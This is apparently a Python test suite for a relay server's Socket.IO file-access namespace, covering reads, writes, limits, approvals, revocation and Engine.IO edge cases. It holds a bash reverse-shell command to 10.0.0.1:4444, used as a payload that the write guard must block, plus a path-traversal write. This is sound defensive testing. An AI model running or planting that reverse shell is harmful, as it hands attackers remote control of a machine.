"""The relay as seed 004's Socket.IO (API.md "Seed 004's own protocol", docs/relay-protocol.md
"Socket.IO"): the official socket.io-client (pinned in tests/socketio, installed by npm ci)
drives the /jailbox namespace as the agent side and as the user's side, over long-polling
and over WebSocket (with the upgrade from polling); mixed with `coffer connect` and with the
HTTP ops; a blocked write, limits, pause and resume, supervised approval, abort. The
Engine.IO edge cases (handshake, errors, the message size limit, connections per key) are
driven by hand from here, with the standard library."""

import base64
import http.client
import json
import os
import queue
import socket
import subprocess
import tempfile
import threading
import time
import urllib.parse

import harness
from harness import check, contains, eq, expect, expect_error
from relay_fake import create, make_agent, wait_status

SIO_DIR = os.path.join(harness.ROOT, "tests", "socketio")
SCRIPT = os.path.join(SIO_DIR, "jailbox.mjs")
RS = "bash -i " ">& /dev/" "tcp/10.0.0.1/4444 0>&1\n"  # the guard's reverse shell

_n = [0]


def _name(prefix="rs"):
    _n[0] += 1
    return "%s-%d-%d" % (prefix, os.getpid(), _n[0])


def _node():
    return harness.npm_ready(SIO_DIR, "socket.io-client", "the Socket.IO relay tests")


def _folder(files=None):
    root = tempfile.mkdtemp(prefix="relay-sio-")
    for p, data in (files or {}).items():
        full = os.path.join(root, p)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode())
    return root


class Sio:
    """One socket.io-client process (tests/socketio/jailbox.mjs): what it prints is
    collected in self.lines; emit() sends a command."""

    def __init__(self, srv, role, uid, key=None, token=None, root=None, transport="both",
                 mode=None, exclude=(), hold_writes=False):
        cmd = [_node(), SCRIPT, "--url", srv.url, "--role", role, "--uid", uid,
               "--transport", transport]
        if key:
            cmd += ["--key", key]
        if token:
            cmd += ["--token", token, "--dir", root]
        if mode:
            cmd += ["--mode", mode]
        for p in exclude:
            cmd += ["--exclude", p]
        if hold_writes:
            cmd.append("--hold-writes")
        self.proc = subprocess.Popen(cmd, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE)
        self.lines, self.seq, self.lock = [], 0, threading.Lock()
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        for raw in self.proc.stdout:
            try:
                line = json.loads(raw)
            except ValueError:
                line = {"type": "garbage", "text": raw.decode("utf-8", "replace")}
            with self.lock:
                self.lines.append(line)

    def find(self, pred):
        with self.lock:
            return [l for l in self.lines if pred(l)]

    def wait(self, pred, what, timeout=20):
        harness.until(lambda: self.find(pred), "%s; the client printed:\n%s\n%s" % (
            what, self.dump(), self._stderr()), timeout)
        return self.find(pred)[0]

    def _stderr(self):
        return "" if self.proc.poll() is None else self.proc.stderr.read().decode()[-2000:]

    def dump(self):
        with self.lock:
            return "\n".join(json.dumps(l)[:400] for l in self.lines[-40:])

    def connected(self):
        return self.wait(lambda l: l["type"] in ("connected", "connect_error"), "connect")

    def event(self, name, pred=lambda a: True, timeout=20):
        return self.wait(lambda l: l["type"] == "event" and l["name"] == name and
                         pred(l["arg"]), "event %s" % name, timeout)["arg"]

    def events(self, name):
        return [l["arg"] for l in self.find(lambda l: l["type"] == "event" and
                                            l["name"] == name)]

    def send(self, **cmd):
        self.seq += 1
        cmd["seq"] = self.seq
        self.proc.stdin.write((json.dumps(cmd) + "\n").encode())
        self.proc.stdin.flush()
        return self.seq

    def call(self, name, *args, timeout=30):
        """Emits with an acknowledgement; returns the ack's argument."""
        seq = self.send(emit=name, args=list(args))
        got = self.wait(lambda l: l["type"] == "ack" and l.get("seq") == seq,
                        "the ack of %s" % name, timeout)
        check("error" not in got, "the ack of %s failed: %s" % (name, got.get("error")))
        return got["arg"]

    def disconnected(self, timeout=20):
        return self.wait(lambda l: l["type"] == "disconnect", "a disconnect", timeout)

    def close(self):
        if self.proc.poll() is None:
            try:
                self.proc.stdin.close()
            except OSError:
                pass
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


def _session(srv, mode=None, limits=None):
    agent = make_agent(srv, _name("ag"), mode=mode)
    return create(srv, agent, limits)


def _both(srv, transport, files=None, mode=None, limits=None, user_mode=None, **kw):
    s = _session(srv, mode=mode, limits=limits)
    root = _folder(files or {"notes.txt": "hello relay\n", "src/a.ts": "const a = 1;\n"})
    user = Sio(srv, "user", s["uid"], token=s["connectToken"], root=root,
               transport=transport, mode=user_mode, **kw)
    eq(user.connected()["type"], "connected", "the user side connects")
    wait_status(srv, s["uid"], "active")
    agent = Sio(srv, "agent", s["uid"], key=srv.key, transport=transport)
    eq(agent.connected()["type"], "connected", "the agent side connects")
    return s, root, user, agent


def _ok(ack, what):
    check(ack.get("ok") is True, "%s: %s" % (what, json.dumps(ack)[:600]))
    return ack["result"]


def _err(ack, etype, what):
    check(ack.get("ok") is False, "%s should fail: %s" % (what, json.dumps(ack)[:600]))
    eq(ack["error"]["type"], etype, what + ": the error's type")
    return ack["error"]


# ------------------------------------------------------------------ both on Socket.IO

def _round_trip(srv, transport):
    s, root, user, agent = _both(srv, transport)
    try:
        st = agent.event("jailbox:status_changed", lambda a: a.get("status") == "active")
        eq(st["uid"], s["uid"], "status_changed names the session")
        excl = agent.event("jailbox:exclusions")
        contains(excl["exclusions"], ".env", "default exclusions")
        hello = user.event("jailbox:status_changed")
        eq((hello["status"], hello["mode"], hello["chosenBy"]), ("active", "standard", "agent"),
           "the user side learns the mode in force")
        ready = _ok(user.call("jailbox:ready", {}), "ready")
        eq((ready["uid"], ready["mode"]), (s["uid"], "standard"), "ready's answer")

        read = _ok(agent.call("jailbox:file_read", {"path": "notes.txt"}), "read")
        eq((read["content"], read["size"]), ("hello relay\n", 12), "read answer")
        read2 = _ok(agent.call("jailbox:file_read", "src/a.ts"), "read by a bare path")
        eq(read2["content"], "const a = 1;\n", "read by a bare path")

        w = _ok(agent.call("jailbox:file_write", {"path": "src/new.txt",
                                                  "content": "written over socket.io"}),
                "write")
        eq(w["sha256"], harness.sha256(b"written over socket.io"), "write's sha256")
        with open(os.path.join(root, "src/new.txt")) as f:
            eq(f.read(), "written over socket.io", "the file in the user's folder")
        agent.event("jailbox:write_result", lambda a: a.get("path") == "src/new.txt")
        user.event("jailbox:pre_scan_done", lambda a: a.get("path") == "src/new.txt")
        user.event("jailbox:file_write", lambda a: a.get("path") == "src/new.txt")

        ls = _ok(agent.call("jailbox:list_directory", "src/"), "list src/ (seed 004's call)")
        eq(sorted(e["name"] for e in ls["entries"]), ["a.ts", "new.txt"], "listing")
        found = _ok(agent.call("jailbox:search_files", "relay", {"glob": "*.txt"}), "search")
        eq([(r["file"], r["line"]) for r in found["results"]], [("notes.txt", 1)],
           "search results")

        _err(agent.call("jailbox:file_read", {"path": ".env"}), "forbidden",
             "an excluded path")
        _err(agent.call("jailbox:file_read", {"path": "notes.txt", "bogus": 1}),
             "validation_error", "an unknown field")
        _err(agent.call("jailbox:nonsense", {}), "validation_error", "an unknown event")

        # the same session through HTTP: the counts are one
        got = expect(srv.get("/v1/relay/sessions/" + s["uid"]), 200).json()
        eq(got["counts"]["writes"], 1, "writes counted")
        check(got["counts"]["reads"] >= 4, "reads counted: %s" % got["counts"])
    finally:
        agent.close()
        user.close()


def test_both_sides_on_socketio_long_polling(srv):
    _round_trip(srv, "polling")


def test_both_sides_on_socketio_websocket(srv):
    _round_trip(srv, "websocket")


def test_upgrade_from_polling_to_websocket(srv):
    s, root, user, agent = _both(srv, "both")
    try:
        agent.wait(lambda l: l["type"] == "upgrade", "the agent's upgrade to WebSocket")
        user.wait(lambda l: l["type"] == "upgrade", "the user's upgrade to WebSocket")
        read = _ok(agent.call("jailbox:file_read", "notes.txt"), "read after the upgrade")
        eq(read["content"], "hello relay\n", "read after the upgrade")
    finally:
        agent.close()
        user.close()


# ------------------------------------------------------------------ mixed

def test_socketio_agent_with_coffer_connect_user(srv):
    s = _session(srv)
    root = _folder({"notes.txt": "from coffer connect\n"})
    env = dict(os.environ, COFFER_CONNECT_TOKEN=s["connectToken"])
    log = tempfile.TemporaryFile()
    client = subprocess.Popen([harness.bin_path("coffer"), "connect", "--server", srv.url,
                               "--uid", s["uid"], "--dir", root, "--standard"],
                              stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                              stderr=log, env=env, start_new_session=True)
    agent = None
    try:
        wait_status(srv, s["uid"], "active")
        agent = Sio(srv, "agent", s["uid"], key=srv.key)
        eq(agent.connected()["type"], "connected", "agent connects")
        read = _ok(agent.call("jailbox:file_read", "notes.txt"), "read via coffer connect")
        eq(read["content"], "from coffer connect\n", "content")
        _ok(agent.call("jailbox:file_write", {"path": "out/x.txt", "content": "sio"}), "write")
        with open(os.path.join(root, "out/x.txt")) as f:
            eq(f.read(), "sio", "written by coffer connect")
        _err(agent.call("jailbox:file_write", {"path": "run.sh", "content": RS}), "blocked",
             "a reverse shell")
        agent.event("jailbox:write_blocked", lambda a: a.get("path") == "run.sh")
    finally:
        if agent:
            agent.close()
        client.terminate()
        client.wait(timeout=20)


def test_http_agent_with_socketio_user(srv):
    s = _session(srv)
    root = _folder({"notes.txt": "served by socket.io\n"})
    user = Sio(srv, "user", s["uid"], token=s["connectToken"], root=root, transport="polling")
    try:
        eq(user.connected()["type"], "connected", "user connects")
        wait_status(srv, s["uid"], "active")
        ops = "/v1/relay/sessions/%s/ops" % s["uid"]
        got = expect(srv.post(ops, json={"op": "read_file", "path": "notes.txt"}), 200).json()
        eq(got["content"], "served by socket.io\n", "read through the Socket.IO user")
        expect(srv.post(ops, json={"op": "write_file", "path": "d/e.txt", "content": "ok"}),
               200)
        with open(os.path.join(root, "d/e.txt")) as f:
            eq(f.read(), "ok", "written by the Socket.IO user")
        got = expect(srv.post(ops, json={"op": "list_directory", "path": "d/"}), 200).json()
        eq([e["name"] for e in got["entries"]], ["e.txt"], "listing")
        user.event("jailbox:file_read", lambda a: a.get("path") == "notes.txt")
    finally:
        user.close()


# ------------------------------------------------------------------ guard, limits

def test_blocked_write_reaches_both_sides_and_the_log(srv):
    s, root, user, agent = _both(srv, "websocket")
    try:
        e = _err(agent.call("jailbox:file_write", {"path": "x.sh", "content": RS}), "blocked",
                 "a reverse shell")
        eq(e["status"], 422, "422")
        check(e["rule"], "the guard names its rule")
        agent.event("jailbox:write_blocked", lambda a: a.get("path") == "x.sh")
        user.event("jailbox:write_blocked", lambda a: a.get("path") == "x.sh")
        check(not os.path.exists(os.path.join(root, "x.sh")), "nothing written")
        e = _err(agent.call("jailbox:file_write", {"path": "../up.txt", "content": "x"}),
                 "blocked", "a path leaving the folder")
        eq(e["rule"], "path-traversal", "traversal is the guard's")
        log = expect(srv.get("/v1/relay/sessions/%s/log" % s["uid"]), 200).json()
        blocked = [x for x in log["entries"] if x.get("outcome") == "blocked"]
        eq(sorted(x["path"] for x in blocked), ["../up.txt", "x.sh"], "blocked writes logged")
        # the session goes on
        _ok(agent.call("jailbox:file_read", "notes.txt"), "a read after the blocks")
    finally:
        agent.close()
        user.close()


def test_session_limits_hold_on_socketio(srv):
    s, root, user, agent = _both(srv, "polling", limits={"reads": 2, "fileBytes": 16})
    try:
        _ok(agent.call("jailbox:file_read", "notes.txt"), "first read")
        _ok(agent.call("jailbox:list_directory", ""), "second read")
        e = _err(agent.call("jailbox:file_read", "notes.txt"), "rate_limited", "third read")
        eq(e["limit"], "reads", "the limit named")
        e = _err(agent.call("jailbox:file_write", {"path": "big.txt", "content": "x" * 17}),
                 "too_large", "a write over fileBytes")
        eq(e["limit"], "fileBytes", "the limit named")
    finally:
        agent.close()
        user.close()


def test_user_exclusions_event_changes_what_the_agent_reaches(srv):
    s, root, user, agent = _both(srv, "websocket", files={"notes.txt": "n\n",
                                                          "secret/k.txt": "k\n"})
    try:
        _ok(agent.call("jailbox:file_read", "secret/k.txt"), "read before")
        _ok(user.call("jailbox:exclusions", {"exclusions": ["secret/**"]}), "exclusions sent")
        ev = agent.event("jailbox:exclusions", lambda a: a.get("user") == ["secret/**"])
        contains(ev["exclusions"], "secret/**", "in force")
        _err(agent.call("jailbox:file_read", "secret/k.txt"), "forbidden", "read after")
        _err(user.call("jailbox:exclusions", {"exclusions": ["["]}), "validation_error",
             "a bad pattern")
    finally:
        agent.close()
        user.close()


# ------------------------------------------------------------------ life cycle

def test_supervised_write_waits_for_accept(srv):
    s, root, user, agent = _both(srv, "websocket", mode="supervised", hold_writes=True)
    try:
        eq(user.event("jailbox:status_changed")["mode"], "supervised", "the agent's mode")
        seq = agent.send(emit="jailbox:file_write", args=[{"path": "s.txt", "content": "ok?"}])
        op = user.event("jailbox:file_write", lambda a: a.get("path") == "s.txt")
        check(not agent.find(lambda l: l["type"] == "ack" and l.get("seq") == seq),
              "the write waits for the user")
        _ok(user.call("jailbox:accept", {"id": op["id"], "path": "s.txt"}), "accept")
        user.send(answer=op["id"])
        ack = agent.wait(lambda l: l["type"] == "ack" and l.get("seq") == seq, "the write")
        _ok(ack["arg"], "the accepted write")
        agent.event("jailbox:accept", lambda a: a.get("path") == "s.txt")
        with open(os.path.join(root, "s.txt")) as f:
            eq(f.read(), "ok?", "written after the accept")
    finally:
        agent.close()
        user.close()


def test_dropped_user_pauses_and_a_new_one_resumes(srv):
    s, root, user, agent = _both(srv, "polling")
    user2 = None
    try:
        user.send(drop=True)
        agent.event("jailbox:pause")
        wait_status(srv, s["uid"], "paused")
        user2 = Sio(srv, "user", s["uid"], token=s["connectToken"], root=root)
        eq(user2.connected()["type"], "connected", "a new user side attaches")
        agent.event("jailbox:resume")
        _ok(agent.call("jailbox:file_read", "notes.txt"), "read after the resume")
    finally:
        for c in (agent, user, user2):
            if c:
                c.close()


def test_user_abort_ends_the_session_for_both(srv):
    s, root, user, agent = _both(srv, "websocket")
    try:
        _ok(user.call("jailbox:abort", {}), "abort")
        agent.event("jailbox:abort", lambda a: a.get("by") == "user")
        eq(agent.event("jailbox:session_ended")["reason"], "aborted", "the agent is told")
        eq(user.event("jailbox:session_ended")["reason"], "aborted", "the user is told")
        eq(agent.disconnected()["reason"], "io server disconnect", "the agent's socket ends")
        got = wait_status(srv, s["uid"], "ended")
        eq(got["endReason"], "aborted", "ended by the abort")
        expect_error(srv.post("/v1/relay/sessions/%s/ops" % s["uid"],
                              json={"op": "read_file", "path": "notes.txt"}), 410, "gone")
    finally:
        agent.close()
        user.close()


def test_agent_close_ends_the_session(srv):
    s, root, user, agent = _both(srv, "polling")
    try:
        got = _ok(agent.call("jailbox:close", {}), "close")
        eq((got["status"], got["endReason"]), ("ended", "closed"), "the answer")
        eq(user.event("jailbox:session_ended")["reason"], "closed", "the user is told")
    finally:
        agent.close()
        user.close()


def test_agent_going_away_tells_the_user(srv):
    s, root, user, agent = _both(srv, "websocket")
    agent.event("jailbox:status_changed", lambda a: a.get("status") == "active")
    agent.close()
    try:
        user.event("jailbox:agent_disconnected")
    finally:
        user.close()


def test_refused_authentication(srv):
    s = _session(srv)
    bad = Sio(srv, "agent", s["uid"], key="ck_" + "0" * 48, transport="polling")
    got = bad.connected()
    eq(got["type"], "connect_error", "a wrong key")
    eq(got["data"]["status"], 401, "401")
    bad.close()
    bad = Sio(srv, "user", s["uid"], token="rct_wrong", root=_folder(), transport="websocket")
    got = bad.connected()
    eq(got["type"], "connect_error", "a wrong connect token")
    eq(got["data"]["status"], 401, "401")
    bad.close()
    other = Sio(srv, "agent", "rs_nosuchsession", key=srv.key, transport="websocket")
    got = other.connected()
    eq((got["type"], got["data"]["status"]), ("connect_error", 404), "an unknown session")
    other.close()


# ------------------------------------------------------------------ Engine.IO by hand

def _conn(srv):
    return http.client.HTTPConnection(srv.host, srv.port, timeout=30 * harness.SCALE)


def _eio(srv, method, query, body=None):
    c = _conn(srv)
    c.request(method, "/socket.io/?" + urllib.parse.urlencode(query), body=body)
    r = c.getresponse()
    data = r.read()
    c.close()
    return r.status, data.decode("utf-8", "replace")


def _handshake(srv):
    st, body = _eio(srv, "GET", {"EIO": "4", "transport": "polling"})
    eq(st, 200, "handshake")
    eq(body[0], "0", "an open packet")
    return json.loads(body[1:])


def test_engineio_handshake_and_refusals(srv):
    o = _handshake(srv)
    eq((o["upgrades"], o["pingInterval"], o["pingTimeout"], o["maxPayload"]),
       (["websocket"], 25000, 20000, 16 << 20), "the handshake")
    st, body = _eio(srv, "GET", {"EIO": "3", "transport": "polling"})
    eq((st, json.loads(body)["code"]), (400, 5), "EIO=3")
    st, body = _eio(srv, "GET", {"EIO": "4", "transport": "carrier-pigeon"})
    eq((st, json.loads(body)["code"]), (400, 0), "an unknown transport")
    st, body = _eio(srv, "GET", {"EIO": "4", "transport": "polling", "sid": "nope"})
    eq((st, json.loads(body)["code"]), (400, 1), "an unknown sid")
    q = {"EIO": "4", "transport": "polling", "sid": o["sid"]}
    st, body = _eio(srv, "POST", q, body="40/,{}")
    eq(st, 200, "a CONNECT to another namespace is taken")
    st, body = _eio(srv, "GET", q)
    check(body.startswith("44{") and "only /jailbox" in body, "CONNECT_ERROR: %r" % body)
    st, body = _eio(srv, "POST", q, body="bAAAA")
    eq(st, 400, "a binary packet")
    contains(body, "binary", "the refusal says why")
    st, body = _eio(srv, "POST", q, body="3")
    eq(st, 400, "the session ended with the bad packet")


def test_engineio_post_over_the_limit_is_413(srv):
    o = _handshake(srv)
    c = _conn(srv)
    c.putrequest("POST", "/socket.io/?EIO=4&transport=polling&sid=" + o["sid"])
    c.putheader("Content-Length", str((16 << 20) + 1))
    c.endheaders()
    left = (16 << 20) + 1
    try:
        while left:  # the answer comes once the body is read (no 100-continue)
            n = min(left, 1 << 20)
            c.send(b"4" * n)
            left -= n
    except OSError:
        pass
    r = c.getresponse()
    eq(r.status, 413, "a POST over maxPayload")
    contains(r.read().decode(), "16 MiB", "the limit named")
    c.close()


def _masked(text):
    b, m = text.encode(), os.urandom(4)
    n = bytes([0x80 | len(b)]) if len(b) < 126 else bytes([0x80 | 126]) + len(b).to_bytes(2, "big")
    return bytes([0x81]) + n + m + bytes(c ^ m[i % 4] for i, c in enumerate(b))


def _ws_open(srv, sid=None, first=b""):
    s = socket.create_connection((srv.host, srv.port), timeout=30 * harness.SCALE)
    key = base64.b64encode(os.urandom(16)).decode()
    q = "EIO=4&transport=websocket" + ("&sid=" + sid if sid else "")
    s.sendall(("GET /socket.io/?%s HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n"
               "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n"
               "\r\n" % (q, key)).encode() + first)
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        check(chunk, "the upgrade's answer ended early: %r" % head)
        head += chunk
    check(head.startswith(b"HTTP/1.1 101"), "101: %r" % head)
    return s


def _ws_frame(s):
    def n(k):
        b = b""
        while len(b) < k:
            c = s.recv(k - len(b))
            check(c, "the WebSocket ended")
            b += c
        return b
    h = n(2)
    ln = h[1] & 0x7F
    if ln == 126:
        ln = int.from_bytes(n(2), "big")
    elif ln == 127:
        ln = int.from_bytes(n(8), "big")
    return h[0] & 0x0F, n(ln)


def test_websocket_message_over_the_limit_is_closed_1009(srv):
    s = _ws_open(srv)
    op, data = _ws_frame(s)
    eq((op, data[:1]), (1, b"0"), "the open packet first")
    # a text frame announcing 16 MiB + 1: refused from its header
    s.sendall(bytes([0x81, 0x80 | 127]) + ((16 << 20) + 1).to_bytes(8, "big") + b"\0\0\0\0"
              + b"4" * 1024)
    while True:
        op, data = _ws_frame(s)
        if op == 8:
            break
    eq(int.from_bytes(data[:2], "big"), 1009, "close code 1009 (message too big)")
    s.close()


def test_connections_per_key_are_capped(srv):
    s = _session(srv)
    key = expect(srv.post("/v1/keys", json={"name": _name("k")}), 201).json()["key"]
    sids = []
    for i in range(65):
        o = _handshake(srv)
        q = {"EIO": "4", "transport": "polling", "sid": o["sid"]}
        eq(_eio(srv, "POST", q, body="40/jailbox," + json.dumps(
            {"token": key, "uid": s["uid"]}))[0], 200, "CONNECT %d" % i)
        st, body = _eio(srv, "GET", q)
        sids.append(o["sid"])
        if i < 64:
            check(body.startswith("40/jailbox,{\"sid\""), "connection %d: %r" % (i, body))
    check(body.startswith("44/jailbox,") and "the limit is 64" in body,
          "the 65th connection of one key: %r" % body)
    for sid in sids:
        _eio(srv, "POST", {"EIO": "4", "transport": "polling", "sid": sid}, body="1")


def test_read_only_key_relays_nothing(srv):
    s, root, user, agent0 = _both(srv, "polling")
    agent0.close()
    ro = expect(srv.post("/v1/keys", json={"name": _name("ro"), "readOnly": True}), 201).json()
    reader = Sio(srv, "agent", s["uid"], key=ro["key"], transport="polling")
    try:
        eq(reader.connected()["type"], "connected", "a read-only key sees the events")
        reader.event("jailbox:status_changed")
        _err(reader.call("jailbox:file_read", "notes.txt"), "forbidden",
             "a read-only key relays no op")
    finally:
        for c in (reader, user):
            c.close()


def test_revoked_key_ends_its_sockets(srv):
    """A key revoked while its sockets are open: each gets jailbox:error (401, naming the
    key) and the namespace's DISCONNECT, then its transport closes (keywatch.c, as an
    SSE stream of the key ends); an op sent meanwhile is refused 401 if it gets there
    first. A socket of another key goes on."""
    s, root, user, agent0 = _both(srv, "polling")
    agent0.close()
    k = expect(srv.post("/v1/keys", json={"name": _name("k")}), 201).json()
    ws = Sio(srv, "agent", s["uid"], key=k["key"], transport="websocket")
    poll = Sio(srv, "agent", s["uid"], key=k["key"], transport="polling")
    other = Sio(srv, "agent", s["uid"], key=srv.key, transport="websocket")
    try:
        for c in (ws, poll, other):
            eq(c.connected()["type"], "connected", "connect")
        _ok(ws.call("jailbox:file_read", "notes.txt"), "a read while the key lives")
        expect(srv.delete("/v1/keys/" + k["id"]), 204)
        seq = poll.send(emit="jailbox:file_read", args=["notes.txt"], timeout=5000)
        for c, how in ((ws, "websocket"), (poll, "polling")):
            e = c.event("jailbox:error", lambda a: a.get("error", {}).get("type") ==
                        "unauthorized")
            eq(e["error"]["status"], 401, "401 (%s)" % how)
            contains(e["error"]["message"], "%s was revoked" % k["id"], "names the key")
            eq(c.disconnected()["reason"], "io server disconnect",
               "the server ends the namespace (%s)" % how)
            eq(c.proc.wait(timeout=20), 0, "the client is done (%s)" % how)
        got = poll.find(lambda l: l["type"] == "ack" and l.get("seq") == seq)
        if got and "arg" in got[0]:   # the op came before the close: refused
            _err(got[0]["arg"], "unauthorized", "a read after the key was revoked")
        _ok(other.call("jailbox:file_read", "notes.txt"), "another key's socket goes on")
    finally:
        for c in (ws, poll, other, user):
            c.close()


def test_websocket_frames_sent_with_the_upgrade_request_are_read(srv):
    """A client that sends its CONNECT right behind the upgrade request, before the 101:
    MHD has read those bytes already, and they are handed on with the socket."""
    s = _session(srv)
    ws = _ws_open(srv, first=_masked("40/jailbox," + json.dumps({"token": srv.key,
                                                                  "uid": s["uid"]})))
    got = b""
    while b'40/jailbox,{"sid"' not in got:
        op, data = _ws_frame(ws)
        check(op == 1, "a text frame, not %d: %r" % (op, data[:200]))
        got += data + b"\n"
    ws.close()


def test_many_websocket_clients_at_once_all_connect(srv):
    """100 agent sockets (three keys; under the default --max-conns-per-ip 128) opened at once, each sending its CONNECT
    behind the upgrade: every one is answered (the hub's send list once held a socket
    twice under such load, and hung)."""
    s = _session(srv)
    keys = [expect(srv.post("/v1/keys", json={"name": _name("m")}), 201).json()["key"]
            for _ in range(3)]
    socks = [_ws_open(srv, first=_masked("40/jailbox," + json.dumps(
        {"token": keys[i % 3], "uid": s["uid"]}))) for i in range(100)]
    for i, ws in enumerate(socks):
        got = b""
        while b'40/jailbox,{"sid"' not in got:
            op, data = _ws_frame(ws)
            check(op == 1 and not data.startswith(b"44"), "socket %d: %r" % (i, data[:300]))
            got += data + b"\n"
    for ws in socks:
        ws.close()
